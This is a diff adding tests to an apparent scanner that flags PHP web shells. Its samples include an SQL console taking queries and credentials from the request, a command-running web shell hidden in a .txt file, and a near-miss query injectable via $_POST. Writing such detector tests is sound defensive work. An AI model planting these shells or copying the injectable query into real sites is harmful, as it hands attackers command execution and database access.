@@ -740,3 +740,32 @@ def test_preg_replace_e_with_code_from_elsewhere_and_eval_of_fetched_code(eng):
     near = (b"<?php\n$body = file_get_contents('https://api.example.org/v1/rates');\n"
             b"$rates = json_decode($body, true);\n$tpl = 'return 1;';\n$one = eval($tpl);\n")
     assert not eng.analyse(near, '/var/www/html/rates.php').suspicious
+
+
+def test_sql_console_takes_the_whole_query_and_the_login_from_the_request(eng):
+    src = (b"<?php\n$link = mysql_connect('localhost', $_POST['user'], $_POST['pass']);\n"
+           b"function run() {\n  $q = $_GET['query'];\n  $q2 = str_replace('\\\\', ' ', $q);\n"
+           b"  $r = @mysql_query(\"$q2\");\n  while ($row = mysql_fetch_row($r)) { echo implode(' | ', $row); }\n}\nrun();\n")
+    v = eng.analyse(src, '/var/www/html/sql.php')
+    assert v.suspicious and {'php.sql.request_query', 'php.sql.request_login'} <= rules(v), v
+    # near-misses: a value placed inside a query the code writes (an injection bug, not a
+    # console), and an installer connecting with settings from its config file
+    for near in (b"<?php\n$r = mysql_query(\"SELECT * FROM t WHERE id = \" . (int)$_GET['id']);\n"
+                 b"$s = mysqli_query($db, \"SELECT name FROM u WHERE login = '\" . $_POST['u'] . \"'\");\n",
+                 b"<?php\nrequire 'config.php';\n$db = mysqli_connect($cfg['host'], $cfg['user'], $cfg['pass']);\n"):
+        v = eng.analyse(near, '/var/www/html/list.php')
+        assert not v.suspicious and not rules(v) & {'php.sql.request_query', 'php.sql.request_login'}, v
+
+
+def test_text_file_that_is_a_php_page_is_staged_code(eng):
+    page = (b"<html><body><?php\nif (isset($_POST['c'])) { $o = array(); exec($_POST['c'], $o); "
+            b"echo implode(\"\\n\", $o); } ?>\n<form method=post><input name=c></form></body></html>\n")
+    v = eng.analyse(page, '/var/www/html/images/readme.txt')
+    assert v.suspicious and 'file.php_program_in_text' in rules(v), v
+    v = eng.analyse(b"<?php\nexec('ls -la');\n", '/var/www/html/notes.txt')
+    assert v.suspicious and 'file.php_program_in_text' in rules(v), v
+    # near-miss: prose documentation quoting a snippet
+    doc = (b"Installation\n============\n\nAdd this to your template:\n\n"
+           b"    <?php echo do_shortcode('[gallery]'); ?>\n\nThen run `wget` or `curl` to fetch updates.\n")
+    v = eng.analyse(doc, '/var/www/html/readme.txt')
+    assert not v.suspicious and 'file.php_program_in_text' not in rules(v), v
